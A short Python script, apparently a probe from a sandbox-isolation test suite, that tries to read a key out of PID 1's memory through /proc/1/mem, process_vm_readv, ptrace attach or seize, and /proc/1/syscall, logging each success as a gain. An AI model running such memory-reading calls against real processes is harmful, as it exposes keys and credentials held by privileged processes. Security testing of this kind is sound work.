"""Read the stream's key out of the init's memory."""

import ctypes
import os

from attacker import attempt, call, gained, read

PTRACE_ATTACH, PTRACE_SEIZE = 16, 0x4206

with attempt():
    memory = os.open("/proc/1/mem", os.O_RDONLY)
    gained("the memory's file")
    for line in read("/proc/1/maps", 1 << 16).decode().splitlines():
        start, end = (int(word, 16) for word in line.split()[0].split("-"))
        with attempt():
            gained(f"{len(os.pread(memory, min(end - start, 4096), start))} bytes of memory")
with attempt():
    buffer = ctypes.create_string_buffer(64)
    own = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 64)
    for address in (0x400000, 0x555555554000):
        other = (ctypes.c_size_t * 2)(address, 64)
        with attempt():
            gained(f"{call('process_vm_readv', 1, own, 1, other, 1, 0)} bytes")
for request in (PTRACE_ATTACH, PTRACE_SEIZE):
    with attempt():
        call("ptrace", request, 1, 0, 0)
        gained("a trace")
with attempt():
    if read("/proc/1/syscall"):
        gained("registers")
